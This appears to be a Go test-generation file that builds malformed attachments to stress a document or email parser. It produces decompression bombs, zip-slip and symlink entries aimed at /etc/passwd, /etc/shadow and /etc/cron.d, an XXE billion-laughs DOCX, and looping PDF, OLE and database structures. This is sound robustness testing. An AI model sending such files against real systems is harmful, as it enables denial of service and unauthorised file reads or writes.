package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// hostileFiles are attached files made to exhaust whoever opens them.
func hostileFiles() []hostileKind {
	many := strings.Repeat
	file := func(kind, name, mediaType string, make func(x *planting) string) hostileKind {
		return hostileKind{kind, func(x *planting) string { return x.letter(x.mixed(attached(name, mediaType, make(x)))) }}
	}
	archive := func(kind, name string, make func(x *planting) string) hostileKind {
		return file(kind, name, "application/octet-stream", make)
	}
	return []hostileKind{
		archive("zip-in-itself", "a.zip", func(*planting) string { return zipInItself(300) }),
		archive("zip-overlapping", "a.zip", func(*planting) string { return overlappingZip(2000) }),
		archive("zip-in-zip-200-deep", "a.zip", func(x *planting) string {
			inner := x.text()
			for i := range 200 {
				inner = zipped(fmt.Sprintf("%d.zip", i), inner)
			}
			return inner
		}),
		archive("zip-16-zips-4-deep", "a.zip", func(*planting) string { return bushyZip(4, 16) }),
		archive("zip-members-60000", "a.zip", func(*planting) string {
			list := make([]member, 60_000)
			for i := range list {
				list[i] = member{fmt.Sprintf("%d.txt", i), "a"}
			}
			return packed(list...)
		}),
		archive("zip-members-claimed", "a.zip", func(*planting) string {
			return strings.Replace(zip64("a.txt", "Nothing.\n"), "\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00", "\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00", 1)
		}),
		archive("zip-slip-names", "a.zip", func(x *planting) string {
			return packed(member{"../../../../etc/cron.d/x", x.text()}, member{`..\..\Windows\x`, x.text()}, member{"/etc/passwd", x.text()}, member{many("a/", 30_000) + "b", "x"}, member{"\x1b[2J\x00\n", "x"})
		}),
		archive("zip-symlinks", "a.zip", func(*planting) string { return linkedZip("/etc/passwd") }),
		archive("tar-links", "a.tar", func(x *planting) string { return linkedTar(x.text()) }),
		archive("tar-size-claimed", "a.tar", func(*planting) string {
			return strings.Replace(tarred("a.txt", "Nothing.\n"), "00000000011", "77777777777", 1)
		}),
		archive("7z-files-claimed", "a.7z", func(*planting) string { return sevenFile("", "\x01\x05"+sevenNumber(1<<31)+"\x00\x00") }),
		archive("7z-folders-claimed", "a.7z", func(*planting) string {
			return sevenFile("abc", "\x01\x04\x06\x00\x01\x09\x03\x00\x07\x0b"+sevenNumber(1<<30)+"\x00\x01\x01\x00\x0c\x03\x00\x00\x00")
		}),
		archive("rar-size-claimed", "a.rar", func(*planting) string {
			return strings.Replace(rar4("a.txt", "Nothing.\n"), "\x09\x00\x00\x00\x09\x00\x00\x00", "\x09\x00\x00\x00\xff\xff\xff\x7f", 1)
		}),
		archive("xz-dictionary-4GiB", "a.xz", func(*planting) string { return xzDictionary(xzipped(many("a", 100_000)), 40) }),
		archive("xz-bomb", "a.xz", func(*planting) string { return xzipped(many("\x00", 1<<28)) }),
		archive("bzip2-bomb", "a.bz2", func(*planting) string { return bzipped(many("\x00", 1<<28)) }),
		archive("zstd-bomb", "a.zst", func(*planting) string { return zstandard(many("\x00", 1<<28)) }),
		archive("zstd-window-claimed", "a.zst", func(*planting) string { return "\x28\xb5\x2f\xfd\x00\xf8" + "\x03\x00\x10a" }),
		archive("gzip-members-100000", "a.gz", func(*planting) string { return many(gzipped("a"), 100_000) }),
		file("docx-billion-laughs", "a.docx", docxMedia, func(*planting) string { return laughingDocument() }),
		file("docx-10000-deep", "a.docx", docxMedia, func(x *planting) string {
			return wordDocument(many("<w:sdt><w:sdtContent>", 10_000)+paras(x.line)+many("</w:sdtContent></w:sdt>", 10_000), nil)
		}),
		file("docx-1000000-open", "a.docx", docxMedia, func(*planting) string { return wordDocument(many("<w:p>", 1_000_000), nil) }),
		file("docx-attributes-200000", "a.docx", docxMedia, func(*planting) string { return wordDocument("<w:p "+numbered(200_000, `a%d="b" `)+"/>", nil) }),
		file("docx-text-256MB", "a.docx", docxMedia, func(*planting) string {
			return wordDocument(para("<w:r><w:t>"+many("harbor ", 1<<25)+"</w:t></w:r>"), nil)
		}),
		file("docx-in-docx-40-deep", "a.docx", docxMedia, func(x *planting) string {
			inner := wordDocument(paras(x.line), nil)
			for range 40 {
				inner = wordDocument(paras("See."), []opcPart{{name: "word/embeddings/a.docx", media: docxMedia, relation: "package", content: inner}})
			}
			return inner
		}),
		file("docx-relations-loop", "a.docx", docxMedia, func(*planting) string { return loopingDocument() }),
		file("xlsx-cells-claimed", "a.xlsx", xlsxMedia, func(*planting) string {
			return workbook{sheets: []sheet{{rows: `<row r="1048576" spans="1:16384"><c r="XFD1048576" t="inlineStr"><is><t>a</t></is></c></row>`, after: `<dimension ref="A1:XFD1048576"/>`}}}.file()
		}),
		file("xlsx-cells-1000000-empty", "a.xlsx", xlsxMedia, func(*planting) string {
			return workbook{sheets: []sheet{{rows: `<row r="1">` + many("<c/>", 1_000_000) + "</row>"}}}.file()
		}),
		file("xlsx-one-string-500000-times", "a.xlsx", xlsxMedia, func(*planting) string {
			return workbook{sheets: []sheet{{rows: `<row r="1">` + many(`<c t="s"><v>0</v></c>`, 500_000) + "</row>"}}, shared: []string{many("harbor ", 5000)}}.file()
		}),
		file("ods-cells-repeated", "a.ods", odfMedia+"spreadsheet", func(*planting) string {
			return openDocument("spreadsheet", `<table:table table:name="a">`+many(`<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384">`+odfParas("harbor")+"</table:table-cell></table:table-row>", 100)+"</table:table>")
		}),
		file("odt-spaces-repeated", "a.odt", odfMedia+"text", func(*planting) string {
			return openDocument("text", "<text:p>"+many(`<text:s text:c="2000000000"/>`, 1000)+"</text:p>")
		}),
		file("pdf-pages-loop", "a.pdf", "application/pdf", func(*planting) string {
			return strings.Replace((&pdfFile{content: pdfLines("Hello")}).file(), "/Kids[3 0 R]", "/Kids[2 0 R]", 1)
		}),
		file("pdf-pages-claimed", "a.pdf", "application/pdf", func(*planting) string {
			return strings.Replace((&pdfFile{content: pdfLines("Hello")}).file(), "/Count 1", "/Count 2000000000", 1)
		}),
		file("pdf-flate-bomb", "a.pdf", "application/pdf", func(*planting) string {
			return (&pdfFile{content: many(" ", 1<<28), flate: true}).file()
		}),
		file("pdf-flate-4-times", "a.pdf", "application/pdf", func(*planting) string {
			data := deflated(deflated(deflated(deflated(many("a", 1<<28)))))
			return (&pdfFile{content: "", contents: "6 0 R", more: []string{pdfStream("/Filter[/FlateDecode/FlateDecode/FlateDecode/FlateDecode]", data)}}).file()
		}),
		file("pdf-forms-loop", "a.pdf", "application/pdf", func(*planting) string {
			return (&pdfFile{content: "/F0 Do\n", resources: "/XObject<</F0 6 0 R>>", more: []string{pdfStream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F0 6 0 R>>>>", many("/F0 Do\n", 100))}}).file()
		}),
		file("pdf-arrays-1000000-deep", "a.pdf", "application/pdf", func(*planting) string {
			return (&pdfFile{content: pdfLines("Hello"), info: "/Title" + many("[", 1_000_000)}).file()
		}),
		file("pdf-text-5000000-strings", "a.pdf", "application/pdf", func(*planting) string {
			return (&pdfFile{content: "BT /F1 1 Tf " + many("(a)Tj ", 5_000_000) + "ET", flate: true}).file()
		}),
		file("ole-fat-loop", "a.doc", "application/msword", func(*planting) string { return loopingFAT(docBody(many("harbor ", 9000), false)) }),
		file("ole-directory-loop", "a.xls", "application/vnd.ms-excel", func(*planting) string { return loopingDirectory(simpleBook("a").file()) }),
		file("ole-10000-streams", "a.doc", "application/msword", func(*planting) string {
			var list []*cfbItem
			for i := range 10_000 {
				list = append(list, &cfbItem{name: fmt.Sprint("s", i), data: "a"})
			}
			return compoundFile(append(list, &cfbItem{name: "WordDocument", data: many("a", 5000)})...)
		}),
		file("doc-pieces-claimed", "a.doc", "application/msword", func(*planting) string {
			return docFile([8]int{2_000_000_000}, []docPiece{{"Hello\r", false}, {many("a", 70_000), false}})
		}),
		file("doc-pieces-on-one-place", "a.doc", "application/msword", func(*planting) string { return stackedPieces(50_000, 60_000) }),
		file("xls-strings-claimed", "a.xls", "application/vnd.ms-excel", func(*planting) string {
			return xlsBook{globals: biff(biffSST, wordBytes([]uint32{1<<32 - 1, 1<<32 - 1})+"\xff\xff\x0d\xff\xff\xff\xff\xff\x7fabc")}.file()
		}),
		file("xls-one-string-60000-times", "a.xls", "application/vnd.ms-excel", func(*planting) string {
			return xlsBook{globals: sharedStrings(biffNarrow(many("harbor ", 1100))), sheet: many(labels(0, 0), 60_000)}.file()
		}),
		file("ppt-100000-deep", "a.ppt", "application/vnd.ms-powerpoint", func(*planting) string {
			return pptFile(many("\x0f\x00\xe8\x03\xff\xff\xff\x7f", 100_000))
		}),
		file("vba-bomb", "a.docm", docxMedia, func(*planting) string {
			chunk := "\x03\xb0" + "\x02a" + "\xfc\x0f" // a letter, and a copy of it as long as a chunk allows
			items := vbaItems("")
			items[0].items[2].data = string(make([]byte, 160)) + "\x01" + many(chunk, 500_000)
			return wordDocument("", []opcPart{{name: "word/vbaProject.bin", relation: "vbaProject", content: compoundFile(items...)}})
		}),
		file("onenote-file-claimed", "a.one", "application/onenote", func(x *planting) string {
			return strings.Replace(oneNote(x.stream, "a", "bc"), oneFile+"\x02", oneFile+"\xff\xff\xff\xff\xff\xff\xff\x7f", 1)
		}),
		file("sqlite-page-loop", "a.db", "application/octet-stream", func(*planting) string { return loopingDatabase() }),
		file("hive-claimed", "a.dat", "application/octet-stream", func(*planting) string {
			return strings.ReplaceAll(hiveFile("a", "b"), "\x01\x00\x00\x00", "\xff\xff\xff\x7f")
		}),
		file("har-100000-deep", "a.har", "application/json", func(*planting) string { return `{"log":{"entries":` + many("[", 100_000) }),
		file("har-base64-nested", "a.har", "application/json", func(x *planting) string {
			inner := x.line
			for range 12 {
				inner = harFile(harEntry{response: map[string]any{"content": map[string]any{"text": strings.TrimSpace(b64Lines(inner, 0)), "encoding": "base64"}}})
			}
			return inner
		}),
		file("saz-chunks-claimed", "a.saz", "application/octet-stream", func(*planting) string {
			return saz("GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"+many("7fffffffffffffff\r\na", 50_000))
		}),
		file("saz-gzip-bomb", "a.saz", "application/octet-stream", func(*planting) string {
			return saz("GET / HTTP/1.1\r\n\r\n", httpText("HTTP/1.1 200 OK", "Content-Encoding: gzip", gzipped(many("\x00", 1<<28))))
		}),
		file("rtf-objects-nested", "a.rtf", "application/rtf", func(x *planting) string {
			inner := rtf(x.line)
			for range 10 {
				inner = rtfPage(`{\object\objemb{\*\objclass Package}{\*\objdata ` + rtfObject("Package", ole10Native("a.rtf", inner)[4:]) + `}}`)
			}
			return inner
		}),
		file("pem-locked-5000", "a.pem", "application/x-pem-file", func(x *planting) string {
			return many("-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIBvTBXBgkqhkiG9w0BBQ0wSjApBgkqhkiG9w0BBQwwHAQIAAAAAAAAAAACAggA\n-----END ENCRYPTED PRIVATE KEY-----\n", 5000)
		}),
		file("zip-locked-2000-members", "a.zip", "application/zip", func(x *planting) string { return lockedMembers(x.stream, 2000) }),
		file("docx-locked-spins-claimed", "a.docx", docxMedia, func(x *planting) string {
			return strings.Replace(agileLocked(x.stream, "PK", "pw"), `spinCount="100000"`, `spinCount="9999999"`, 1)
		}),
		file("pfx-iterations-claimed", "a.pfx", "application/x-pkcs12", func(x *planting) string {
			return string(bytes.ReplaceAll([]byte(pfxFile(x.stream, keyOf(x.stream), "pw")), []byte("\x02\x02\x08\x00"), []byte("\x02\x02\x7f\xff")))
		}),
		file("png-chunks-claimed", "a.png", "image/png", func(*planting) string { return tinyPNG()[:33] + many("\x7f\xff\xff\xffzTXta\x00\x00", 100_000) }),
		file("tiff-loop", "a.tif", "image/tiff", func(*planting) string { return "II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00" }),
	}
}

// zipInItself has n stored members, each of which is the rest of the file, with
// all members that follow and the directory: what is unpacked doubles with each.
func zipInItself(n int) string {
	const name = "a.zip"
	const head = 30 + len(name)
	directory := n * (46 + len(name))
	whole := n*head + directory + 22
	size := func(i int) string {
		return wordBytes([]uint32{0, uint32(whole - (i+1)*head), uint32(whole - (i+1)*head)})
	}
	var local, central strings.Builder
	for i := range n {
		local.WriteString("PK\x03\x04\x0a\x00\x00\x00\x00\x00\x00\x00\x21\x58" + size(i) + shortBytes(len(name), 0) + name)
		central.WriteString("PK\x01\x02\x14\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x21\x58" + size(i) + shortBytes(len(name), 0, 0, 0, 0) + wordBytes([]uint32{0, uint32(i * head)}) + name)
	}
	return local.String() + central.String() + "PK\x05\x06\x00\x00\x00\x00" + shortBytes(n, n) + wordBytes([]uint32{uint32(directory), uint32(n * head)}) + "\x00\x00"
}

// overlappingZip has n members that all are one deflated stream, each with its
// own entry in the directory (D. Fifield, "A better zip bomb", 2019).
func overlappingZip(n int) string {
	content := strings.Repeat("\x00", 1<<24)
	raw := rawDeflated(content)
	size := wordBytes([]uint32{crc32.ChecksumIEEE([]byte(content)), uint32(len(raw)), uint32(len(content))})
	local := "PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x21\x58" + size + shortBytes(5, 0) + "a.txt" + raw
	var central strings.Builder
	for i := range n {
		name := fmt.Sprintf("%d.txt", i)
		central.WriteString("PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00\x21\x58" + size + shortBytes(len(name), 0, 0, 0, 0) + "\x00\x00\x00\x00\x00\x00\x00\x00" + name)
	}
	return local + central.String() + "PK\x05\x06\x00\x00\x00\x00" + shortBytes(n, n) + wordBytes([]uint32{uint32(central.Len()), uint32(len(local))}) + "\x00\x00"
}

// bushyZip is a zip of so many equal zips, and so on down to texts.
func bushyZip(deep, wide int) string {
	inner := strings.Repeat("harbor ", 10_000)
	for range deep {
		list := make([]member, wide)
		for i := range list {
			list[i] = member{fmt.Sprintf("%d.zip", i), inner}
		}
		inner = packed(list...)
	}
	return inner
}

func linkedZip(target string) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "link"}
	h.SetMode(0o777 | 1<<27) // fs.ModeSymlink
	if f, err := w.CreateHeader(h); err == nil {
		f.Write([]byte(target)) // a bytes.Buffer takes everything
	}
	w.Close()
	return b.String()
}

func linkedTar(content string) string {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, h := range []*tar.Header{
		{Typeflag: tar.TypeSymlink, Name: "a", Linkname: "/etc/passwd"}, {Typeflag: tar.TypeLink, Name: "b", Linkname: "../../etc/shadow"},
		{Typeflag: tar.TypeSymlink, Name: "dir", Linkname: "/"}, {Typeflag: tar.TypeChar, Name: "c", Devmajor: 1, Devminor: 5}, {Typeflag: tar.TypeFifo, Name: "d"},
	} {
		w.WriteHeader(h)
	}
	w.WriteHeader(&tar.Header{Name: "dir/../../etc/x", Mode: 0o644, Size: int64(len(content))})
	w.Write([]byte(content))
	w.Close()
	return b.String()
}

// xzDictionary sets the size of the dictionary in the header of the first block,
// where 40 stands for 4 GiB (xz-file-format.txt 5.3.1), and its checksum.
func xzDictionary(s string, size byte) string {
	b := []byte(s)
	n := (int(b[12]) + 1) * 4 // the header of the block follows the 12 bytes of the stream's
	at := bytes.Index(b[12:12+n], []byte{0x21, 0x01})
	b[12+at+2] = size
	binary.LittleEndian.PutUint32(b[12+n-4:], crc32.ChecksumIEEE(b[12:12+n-4]))
	return string(b)
}

func laughingDocument() string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "harbor ">`)
	for i := range 12 {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	b.WriteString(`<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ` + wordSpace + "><w:body><w:p><w:r><w:t>&l12;&x;</w:t></w:r></w:p></w:body></w:document>")
	return opcPackage(opcPart{name: "word/document.xml", media: wordMedia + "document.main+xml", relation: "officeDocument", content: b.String()})
}

// loopingDocument has parts that point to each other and to themselves.
func loopingDocument() string {
	rel := `<Relationships xmlns="` + packageBase + `relationships"><Relationship Id="rId1" Type="` + relationBase + `officeDocument" Target="/word/document.xml"/><Relationship Id="rId2" Type="` + relationBase + `aFChunk" Target="../word/document.xml"/></Relationships>`
	return packed(member{"[Content_Types].xml", `<Types xmlns="` + packageBase + `content-types"/>`}, member{"_rels/.rels", rel},
		member{"word/_rels/document.xml.rels", rel}, member{"word/document.xml", "<w:document " + wordSpace + `><w:body><w:altChunk r:id="rId2"/></w:body></w:document>`},
		member{"word/document.xml", "<w:document " + wordSpace + "><w:body/></w:document>"})
}

// loopingFAT makes each chain of sectors end in its own first one.
func loopingFAT(file string) string {
	return strings.ReplaceAll(file, "\xfe\xff\xff\xff", "\x00\x00\x00\x00")
}

// loopingDirectory makes each entry of the directory its own sibling.
func loopingDirectory(file string) string {
	at := strings.Index(file, utf16Bytes("Root Entry", false))
	b := []byte(file)
	for i := at; i+128 <= len(b) && b[i+66] != 0; i += 128 {
		for _, link := range []int{68, 72, 76} {
			binary.LittleEndian.PutUint32(b[i+link:], uint32((i-at)/128))
		}
	}
	return string(b)
}

// stackedPieces is a document whose pieces all are the same bytes.
func stackedPieces(n, size int) string {
	text, table := docPieces([]docPiece{{strings.Repeat("harbor\r", size/7), false}})
	entry := table[5+8:]
	var places, list []byte
	for i := range n + 1 {
		places = binary.LittleEndian.AppendUint32(places, uint32(i*len(text)))
		if i < n {
			list = append(list, entry...)
		}
	}
	whole := "\x02" + wordBytes([]uint32{uint32(len(places) + len(list))}) + string(places) + string(list)
	return docOf([8]int{n * len(text)}, text, whole)
}

// loopingDatabase has a page of pages that is its own child.
func loopingDatabase() string {
	b := []byte(sqliteFile("a", "b"))
	copy(b[4096:], "\x05\x00\x00\x00\x01\x0f\xf0\x00\x00\x00\x00\x02\x0f\xf0")
	copy(b[4096+0xff0:], "\x00\x00\x00\x02\x01")
	return string(b)
}

// lockedMembers is a zip whose members all are under AES with salts of their own.
func lockedMembers(s *stream, n int) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := range n {
		h := &zip.FileHeader{Name: fmt.Sprintf("%d.txt", i), Method: 99, Flags: 1, CompressedSize64: 128, UncompressedSize64: 100, Extra: []byte("\x01\x99\x07\x00\x02\x00AE\x03\x00\x00")}
		if f, err := w.CreateRaw(h); err == nil {
			f.Write(s.bytes(128)) // a bytes.Buffer takes everything
		}
	}
	w.Close()
	return b.String()
}
